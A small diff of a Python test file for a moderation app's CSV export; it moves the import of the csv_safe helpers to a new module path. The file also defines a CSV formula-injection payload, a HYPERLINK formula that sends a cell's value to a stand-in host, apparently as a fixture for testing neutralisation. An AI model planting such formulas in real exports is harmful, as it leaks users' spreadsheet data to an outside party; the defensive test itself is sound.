@@ -3,8 +3,8 @@
 import csv
 import io
 
-from moderation.csv_safe import csv_text, neutralise
 from moderation.models import Agency, Dispute, LearningTheme
+from moderation.web.csv_safe import csv_text, neutralise
 from tests.conftest import post
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
